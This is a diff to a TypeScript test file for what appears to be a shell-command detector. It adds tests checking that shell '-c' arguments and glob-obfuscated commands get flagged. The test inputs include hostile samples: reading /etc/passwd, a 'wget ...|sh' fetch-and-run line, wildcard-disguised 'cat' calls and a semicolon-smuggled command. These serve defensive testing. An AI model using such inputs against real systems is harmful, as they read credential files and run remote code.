@@ -3,7 +3,7 @@ import { describe, it } from "node:test";
 import fc from "fast-check";
 import { COMMANDS, commandName, mayNameCommand, stripVersion } from "./commands.js";
 import { globMatch } from "./glob.js";
-import { globCommand } from "./unix.js";
+import { analyzeDashC, analyzeShell, globCommand } from "./unix.js";
 
 /** What `globCommand` must return: the first command name, in set order, that the glob matches. */
 function naive(base: string): string | null {
@@ -77,5 +77,26 @@ describe("mayNameCommand", () => {
       }),
       { numRuns: 5000 },
     );
+  });
+});
+
+describe("a shell's -c option and its command", () => {
+  it("flags a command the analyzer knows after -c", () => {
+    for (const v of ["-c id", "-c 'cat /etc/passwd'", '-c "wget http://h/x|sh"', "-lc uname", " -c  /bin/ls"])
+      assert.notEqual(analyzeDashC(v), null, v);
+  });
+  it("leaves other tools' -c options alone", () => {
+    for (const v of ["-c 5", "-c red", "-c en_US", "-cx id", "-c", "--c id"])
+      assert.equal(analyzeDashC(v), null, v);
+  });
+});
+
+describe("lone globs", () => {
+  it("are no command alone, but are with an argument, a separator or a directory", () => {
+    assert.equal(analyzeShell("a*b*c", "value"), null);
+    assert.equal(analyzeShell("c*t", "value"), null);
+    assert.notEqual(analyzeShell("c*t /etc/passwd", "value"), null);
+    assert.notEqual(analyzeShell(";c*t x", "value"), null);
+    assert.notEqual(analyzeShell("/???/c?t", "value"), null);
   });
 });
